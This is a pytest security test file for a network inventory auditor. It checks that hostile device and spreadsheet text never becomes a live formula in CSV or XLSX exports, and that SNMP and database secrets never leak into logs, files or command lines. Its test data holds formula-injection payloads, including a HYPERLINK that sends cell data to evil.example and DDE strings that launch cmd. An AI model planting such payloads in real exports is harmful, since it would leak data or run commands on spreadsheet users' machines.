"""Hardening battery, security (issue 7): hostile text through every file auditor writes, and
secrets through every place a person or another program can read.

Hostile text arrives from devices (sysName, sysDescr) and from spreadsheets; in a CSV a field
that starts with =, +, -, @, a tab or a carriage return is a formula to Excel, and in an XLSX a
cell of type formula is one.  Secrets are SNMP communities and v3 keys: never in a log, a scan
record, an export, `config show`, an error message or a command line.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import multiprocessing
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from auditor.config import load_settings
from auditor.db.engine import open_database
from auditor.db.observations import poll_targets
from auditor.facts import DeviceFacts, HostObservation
from auditor.formulas import FORMULA_TRIGGERS
from auditor.jobs import judge
from auditor.jobs.judge import judging
from auditor.jobs.poll import record_observations
from tests.battery.tally import counted
from tests.conftest import Cli
from tests.links.test_window_stats import province_of_links
from tests.register.test_import import write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
]
OUR_FORMULAS = re.compile(  # the workbook's own: amounts (a price to be quoted, once typed in) and sums
    r'^=(E\d+\*F\d+|IF\(ISNUMBER\(F\d+\),E\d+\*F\d+,""\)|SUM\([A-Z]\d+(:[A-Z]\d+)?(,[A-Z]\d+)*\)|0)$'
)


def _hostile_inventory(auditor: Cli, workdir: Path) -> None:
    """Units, devices and a link whose text a spreadsheet would run: from the register, and from
    what a device says of itself (sysName, sysDescr), where leading tabs and CRs survive."""
    write_csv(workdir / "u.csv", [["unit_code", "unit_name", "staff_count"], ["XA-H", HOSTILE[1], 20]])
    rows = [["unit_code", "hostname", "ip", "asset_tag", "model", "category", "in_service_year"]]
    # No hostname: each device's comes from its sysName, as a scan finds it.
    rows += [["XA-H", "", f"127.0.0.{i + 10}", text, HOSTILE[0], "desktop", 2010] for i, text in enumerate(HOSTILE)]
    write_csv(workdir / "d.csv", rows)
    write_csv(workdir / "l.csv", [["unit_code", "link_name", "capacity_mbps"], ["XA-H", HOSTILE[2], 30]])
    for name in ("u.csv", "d.csv"):
        auditor.ok("register", "import", name)
    auditor.ok("register", "import", "l.csv", "--kind", "links")
    database = open_database(auditor.db_url)
    now = dt.datetime.now(dt.UTC)
    with database.session() as session:
        ids = {t.address: t.device_id for t in poll_targets(session)}
    record_observations(  # as a poll stores what each device answered
        database,
        [
            HostObservation(
                f"127.0.0.{i + 10}",
                now,
                device_id=ids[f"127.0.0.{i + 10}"],
                alive=True,
                snmp_ok=True,
                uptime_s=1000,
                facts=DeviceFacts(sys_name=text, sys_descr=text, model=text),
            )
            for i, text in enumerate(HOSTILE)
        ],
        now,
    )
    database.close()


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [field for row in csv.reader(handle) for field in row]


def _check_csv(path: Path) -> tuple[int, int]:
    """(fields that would start a formula, hostile texts found, neutralised)."""
    fields = _csv_fields(path)
    return sum(f.startswith(FORMULA_TRIGGERS) for f in fields), sum(
        f.lstrip("'").startswith(tuple(HOSTILE)) for f in fields
    )


def _check_xlsx(path: Path) -> tuple[int, int]:
    """(cells that are formulas not of our own making, cells holding hostile text as text)."""
    book = openpyxl.load_workbook(path)
    foreign = hostile = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not OUR_FORMULAS.match(str(cell.value)):
                    foreign += 1
                if isinstance(cell.value, str) and cell.data_type == "s" and cell.value.startswith(tuple(HOSTILE)):
                    hostile += 1
    return foreign, hostile


OUTPUTS = [
    ("devices list csv", ["devices", "list", "--format", "csv"], "stdout.csv"),
    ("findings csv", ["findings", "--format", "csv"], "stdout.csv"),
    ("links list csv", ["links", "list", "--format", "csv"], "stdout.csv"),
    ("links report csv", ["links", "report", "--format", "csv"], "stdout.csv"),
    ("register export csv", ["register", "export", "reg.csv", "--kind", "devices"], "reg.csv"),
    ("register export xlsx", ["register", "export", "reg.xlsx"], "reg.xlsx"),
    ("procurement csv", ["export", "procurement", "plan.csv", "--format", "csv"], "plan.csv"),
    ("procurement xlsx", ["export", "procurement", "plan.xlsx"], "plan.xlsx"),
]


@pytest.mark.parametrize(("what", "argv", "written"), OUTPUTS, ids=[o[0] for o in OUTPUTS])
def test_hostile_text_never_becomes_a_formula(
    auditor: Cli, workdir: Path, what: str, argv: list[str], written: str
) -> None:
    _hostile_inventory(auditor, workdir)
    auditor.ok("audit", "--no-poll")
    result = auditor.ok(*argv)
    path = workdir / written
    if written == "stdout.csv":
        path.write_text(result.stdout, encoding="utf-8")
    foreign, shown = _check_xlsx(path) if path.suffix == ".xlsx" else _check_csv(path)
    counted(refused=foreign == 0)
    assert foreign == 0, f"{what}: {foreign} field(s) a spreadsheet would run"
    assert shown > 0, f"{what}: the hostile text is not there at all, so this case proves nothing"


INPUTS = ("auditor.toml", "communities.txt", "u.csv", "d.csv")  # what the test wrote itself
SECRETS = ("c0mmunity-env-7", "c0mmunity-file-8", "c0mmunity-row-9", "v3-auth-key-5", "v3-priv-key-6")
CONFIG = """
[snmp]
timeout_s = 0.2
retries = 0
communities_file = "communities.txt"
[[snmp.v3]]
name = "core"
user = "auditor"
auth_protocol = "sha"
auth_key = "v3-auth-key-5"
priv_protocol = "aes"
priv_key = "v3-priv-key-6"
"""


def test_secrets_reach_no_output_file_log_message_or_command_line(workdir: Path, sqlite_url: str) -> None:
    """Every place a secret could leak, after a scan, a poll, imports (one refused), exports and an
    audit that all used them: stdout, stderr, the log file, every file written, `config show`."""
    (workdir / "auditor.toml").write_text(CONFIG, encoding="utf-8")
    (workdir / "communities.txt").write_text("c0mmunity-file-8\n", encoding="utf-8")
    env = dict(os.environ, AUDITOR_SNMP_COMMUNITIES="c0mmunity-env-7", AUDITOR_DB=sqlite_url)
    seen: list[str] = []

    def run(*argv: str) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [sys.executable, "-m", "auditor", *argv],
            capture_output=True,
            text=True,
            cwd=workdir,
            env=env,
            timeout=120,
        )
        seen.extend([done.stdout, done.stderr, " ".join(argv)])
        return done

    run("init")
    write_csv(workdir / "u.csv", [["unit_code", "unit_name"], ["XA-S", "S"]])
    write_csv(
        workdir / "d.csv",
        [
            ["unit_code", "hostname", "ip", "snmp_community", "in_service_year"],
            ["XA-S", "quiet", "127.0.0.77", "c0mmunity-row-9", "2015"],
            ["XA-S", "bad-year", "127.0.0.78", "c0mmunity-row-9", "20l5"],  # refused: the errors file
        ],
    )
    run("register", "import", "u.csv")
    assert run("register", "import", "d.csv").returncode == 1
    for argv in (
        ("scan", "127.0.0.76/31", "--unit", "XA-S"),  # loopback answers ping; no SNMP agent there
        ("poll",),
        ("audit", "--log-file", "audit.log", "--export", "reports"),
    ):
        assert run(*argv, "-vv", "--timeout", "0.2", "--retries", "0").returncode == 0, seen[-2]
    run("register", "export", "reg.xlsx")
    run("register", "export", "reg.csv", "--kind", "devices")
    run("devices", "list", "--format", "json")
    run("config", "show")
    run("config", "show", "--format", "json")
    run("register", "import", "missing.xlsx")  # an error message

    leaks = [(s, "output") for s in SECRETS for text in seen if s in text]
    # Not the database: it holds each device's community to poll it with (and is private, below).
    files = [
        p for p in workdir.rglob("*") if p.is_file() and p.name not in INPUTS and not p.name.startswith("inventory.db")
    ]
    for path in files:
        data = path.read_bytes()
        leaks += [(s, str(path.relative_to(workdir))) for s in SECRETS if s.encode() in data]
    scans = workdir / "scans"
    private = [stat.S_IMODE(scans.stat().st_mode) == 0o700] + [
        stat.S_IMODE(p.stat().st_mode) == 0o600 for p in scans.iterdir()
    ]
    private.append(stat.S_IMODE((workdir / "inventory.db").stat().st_mode) == 0o600)
    counted(refused=not leaks and all(private))
    assert {p.suffix for p in files} >= {".jsonl", ".xlsx", ".csv", ".log"}  # the places were written
    assert leaks == []
    assert all(private)


def test_the_workers_command_lines_carry_no_database_url(
    workdir: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The link judgement's workers get the URL (which may hold a password) through a pipe: their
    command line, readable by any user in /proc, does not name it."""
    Cli(sqlite_url).ok("init")
    province_of_links(sqlite_url, 2)
    database = open_database(sqlite_url)
    settings = load_settings(db_url=sqlite_url)
    monkeypatch.setattr(judge, "PARALLEL_LINKS", 1)
    try:
        with judging(database, settings, dt.datetime.now(dt.UTC)) as judged:
            lines = [Path(f"/proc/{w.pid}/cmdline").read_bytes() for w in multiprocessing.active_children()]
            judged()
    finally:
        database.close()
    counted(refused=all(b"inventory.db" not in line for line in lines))
    assert lines and all(b"inventory.db" not in line and b"sqlite" not in line for line in lines)


@pytest.mark.parametrize("spec", ["0.0.0.0/0", "10.0.0.0/8", "172.16.0.0/12"])
def test_a_huge_scan_needs_yes_and_sends_nothing(auditor: Cli, spec: str) -> None:
    result = auditor("scan", spec)
    counted(refused=result.exit_code == 2)
    assert result.exit_code == 2 and "--yes" in result.stderr
    assert json.loads(auditor.ok("devices", "list", "--format", "json").stdout) == []


@pytest.mark.parametrize(
    "given",
    [
        "postgresql+psycopg://auditor@127.0.0.1:1/auditor?password=hunter2-query&sslmode=disable",
        "postgresql+psycopg://auditor:hunter2-user@127.0.0.1:1/auditor",
    ],
    ids=["in the query", "in the user part"],
)
def test_a_database_password_is_masked_wherever_the_url_is_shown(workdir: Path, given: str) -> None:
    def run(*argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "auditor", *argv], capture_output=True, text=True, cwd=workdir, env=env, timeout=120
        )

    shown = run("config", "show", "--db", given)
    failed = run("init", "--db", given)  # nothing listens on loopback port 1: the error quotes the URL
    quiet = run("config", "show", env=dict(os.environ, AUDITOR_DB=given))
    outputs = [p.stdout + p.stderr for p in (shown, failed, quiet)]
    assert not any("hunter2" in text for text in outputs), outputs
    assert "********" in shown.stdout and "127.0.0.1:1/auditor" in shown.stdout
    assert failed.returncode != 0 and "cannot open the database" in failed.stderr
    assert "--db carries a password" in shown.stderr and "PGPASSFILE" in shown.stderr  # `ps` shows it
    assert "--db carries a password" not in quiet.stderr  # from AUDITOR_DB, `ps` shows nothing


def test_credentials_are_stored_by_name_not_by_a_hash_of_the_secret() -> None:
    from auditor.settings import PollOptions, Secret
    from auditor.snmp.credentials import candidates

    options = PollOptions(communities=(Secret("public"), Secret("s3cret-community")))
    names = [name for name, _ in candidates("127.0.0.1", options)]
    assert names == ["community:1", "community:2"]  # their places in snmp.communities, nothing to reverse
